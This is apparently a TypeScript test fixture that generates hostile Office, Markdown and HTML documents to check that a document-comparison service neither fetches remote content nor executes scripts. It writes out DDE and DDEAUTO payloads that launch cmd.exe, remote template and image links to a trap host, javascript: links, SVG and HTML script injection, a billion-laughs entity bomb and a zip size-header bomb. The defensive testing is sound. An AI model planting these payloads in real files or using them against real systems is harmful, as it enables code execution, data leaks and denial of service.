import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { docx, pptx, xlsx } from '../packages/server/src/features/comparison/test-documents.ts'

/** Documents that would fetch from `trap` or run `hacked` wherever a program does what they ask. */

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const drawing = 'http://schemas.openxmlformats.org/drawingml/2006'
const hacked = 'javascript:window.hacked=1'
const svg = (trap: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.hacked=1"><script>window.hacked=1</script><image href="${trap}/svg"/><rect width="40" height="40"/></svg>`

const outside = (id: string, kind: string, target: string) =>
  `<Relationship Id="${id}" Type="${office}/${kind}" Target="${target}" TargetMode="External"/>`
const inside = (id: string, kind: string, target: string) =>
  `<Relationship Id="${id}" Type="${office}/${kind}" Target="${target}"/>`
const relations = (all: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all}</Relationships>`

type Change = string | ((before: string) => string)

function changed(bytes: Buffer, parts: Record<string, Change>): Buffer {
  const entries = unzipSync(bytes)
  for (const [name, change] of Object.entries(parts))
    entries[name] = strToU8(typeof change === 'string' ? change : change(strFromU8(entries[name]!)))
  return Buffer.from(zipSync(entries))
}

const types = (more: string) => (before: string) =>
  before.replace('</Types>', `<Default Extension="svg" ContentType="image/svg+xml"/>${more}</Types>`)
const more = (all: string) => (before: string) => before.replace('</Relationships>', `${all}</Relationships>`)

const picture = (id: number, fill: string) =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="${drawing}/wordprocessingDrawing"><wp:extent cx="400000" cy="400000"/><wp:docPr id="${id}" name="p"/><a:graphic xmlns:a="${drawing}/main"><a:graphicData uri="${drawing}/picture"><pic:pic xmlns:pic="${drawing}/picture"><pic:nvPicPr><pic:cNvPr id="${id}" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="${office}" ${fill}/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="400000" cy="400000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

export const hostileLetter = (trap: string): Buffer =>
  changed(docx('Dear reader', 'Second'), {
    '[Content_Types].xml': types(
      '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>',
    ),
    'word/document.xml': (before) =>
      before.replace(
        '<w:sectPr>',
        `<w:p><w:hyperlink xmlns:r="${office}" r:id="rId20"><w:r><w:t>Press here</w:t></w:r></w:hyperlink></w:p>${picture(7, 'r:link="rId21"')}${picture(8, 'r:embed="rId22"')}${field(`INCLUDEPICTURE "${trap}/field" \\d`)}${field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}<w:sectPr>`,
      ),
    'word/_rels/document.xml.rels': more(
      outside('rId20', 'hyperlink', hacked) +
        outside('rId21', 'image', `${trap}/image.png`) +
        inside('rId22', 'image', 'media/a.svg') +
        inside('rId23', 'settings', 'settings.xml'),
    ),
    'word/media/a.svg': svg(trap),
    'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': relations(outside('rId1', 'attachedTemplate', `${trap}/template.dotm`)),
  })

export const hostileBook = (trap: string): Buffer =>
  changed(xlsx({ Plan: [['Press here', 2]] }), {
    '[Content_Types].xml': types(
      '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/><Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/><Override PartName="/xl/drawings/drawing1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/>',
    ),
    'xl/workbook.xml': (before) =>
      before.replace(
        '</sheets>',
        '</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>',
      ),
    'xl/_rels/workbook.xml.rels': more(
      inside('rId9', 'externalLink', 'externalLinks/externalLink1.xml') +
        inside('rId10', 'connections', 'connections.xml'),
    ),
    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': relations(
      outside('rId1', 'externalLinkPath', `${trap}/other.xlsx`),
    ),
    'xl/connections.xml': `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="${trap}/query"/></connection></connections>`,
    'xl/worksheets/sheet1.xml': (before) =>
      before
        .replace(
          '</row>',
          `<c r="C1"><f>WEBSERVICE("${trap}/service")</f><v>0</v></c><c r="D1"><f>[1]!A1</f><v>0</v></c><c r="E1"><f>HYPERLINK("${hacked}","x")</f><v>0</v></c><c r="F1"><f>_xlfn.IMAGE("${trap}/formula")</f><v>0</v></c></row>`,
        )
        .replace(
          '</worksheet>',
          `<hyperlinks><hyperlink ref="A1" r:id="rId1" xmlns:r="${office}"/></hyperlinks><drawing r:id="rId2" xmlns:r="${office}"/></worksheet>`,
        ),
    'xl/worksheets/_rels/sheet1.xml.rels': relations(
      outside('rId1', 'hyperlink', hacked) + inside('rId2', 'drawing', '../drawings/drawing1.xml'),
    ),
    'xl/drawings/drawing1.xml': `<xdr:wsDr xmlns:xdr="${drawing}/spreadsheetDrawing" xmlns:a="${drawing}/main" xmlns:r="${office}">${[
      'r:link="rId1"',
      'r:embed="rId2"',
    ]
      .map(
        (fill, at) =>
          `<xdr:twoCellAnchor><xdr:from><xdr:col>${at}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>${at + 1}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="${at + 2}" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip ${fill}/><a:stretch/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:twoCellAnchor>`,
      )
      .join('')}</xdr:wsDr>`,
    'xl/drawings/_rels/drawing1.xml.rels': relations(
      outside('rId1', 'image', `${trap}/image.png`) + inside('rId2', 'image', '../media/a.svg'),
    ),
    'xl/media/a.svg': svg(trap),
  })

export const hostileSlides = (trap: string): Buffer =>
  changed(pptx(['Quarter', 'Figures']), {
    '[Content_Types].xml': types(''),
    'ppt/slides/slide1.xml': (before) =>
      before
        .replace('<a:r><a:t>Figures', '<a:r><a:rPr><a:hlinkClick r:id="rId20"/></a:rPr><a:t>Figures')
        .replaceAll(
          '<p:spPr/>',
          '<p:spPr><a:xfrm><a:off x="900000" y="1500000"/><a:ext cx="6000000" cy="2000000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr>',
        )
        .replace(
          '</p:spTree>',
          `${['r:link="rId21"', 'r:embed="rId22"']
            .map(
              (fill, at) =>
                `<p:pic><p:nvPicPr><p:cNvPr id="${at + 20}" name="p"/><p:cNvPicPr/><p:nvPr>${at === 0 ? '<a:videoFile r:link="rId23"/>' : ''}</p:nvPr></p:nvPicPr><p:blipFill><a:blip ${fill}/><a:stretch/></p:blipFill><p:spPr><a:xfrm><a:off x="${at * 900000}" y="0"/><a:ext cx="800000" cy="800000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>`,
            )
            .join('')}</p:spTree>`,
        ),
    'ppt/slides/_rels/slide1.xml.rels': more(
      outside('rId20', 'hyperlink', hacked) +
        outside('rId21', 'image', `${trap}/image.png`) +
        inside('rId22', 'image', '../media/a.svg') +
        outside('rId23', 'video', `${trap}/film.mp4`),
    ),
    'ppt/media/a.svg': svg(trap),
  })

export const hostileMarkdown = (trap: string): Buffer =>
  Buffer.from(
    `# Plan\n\n![a](${trap}/image.png)\n\n[Press here](${hacked})\n\n<img src="${trap}/html.png" onerror="window.hacked=1">\n<script>window.hacked=1</script>\n<iframe src="${trap}/frame"></iframe>\n<svg onload="window.hacked=1"></svg>\n`,
  )

export const hostilePage = (trap: string): Buffer =>
  Buffer.from(
    `<!doctype html>\n<link rel="stylesheet" href="${trap}/a.css">\n<script>window.hacked=1</script>\n<img src="${trap}/a.png" onerror="window.hacked=1">\n<a href="${hacked}">Press here</a>\n`,
  )

/** Entities that grow to a billion words. */
export function laughingLetter(): Buffer {
  const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i']
  const entities = names.map((name, at) =>
    at === 0 ? `<!ENTITY a "${'ha'.repeat(10)}">` : `<!ENTITY ${name} "${`&${names[at - 1]};`.repeat(10)}">`,
  )
  return changed(docx('Dear reader'), {
    'word/document.xml': (before) =>
      before.replace('<w:document', `<!DOCTYPE w [${entities.join('')}]><w:document`).replace('Dear', '&i;'),
  })
}

/** A small file with a part that says it is of 3.9 GB. */
export function unpackingLetter(): Buffer {
  const bytes = changed(docx('Dear reader'), { 'word/media/z.png': '0'.repeat(1_000_000) })
  bytes.writeUInt32LE(0xf000_0000, bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1') + 24)
  return bytes
}
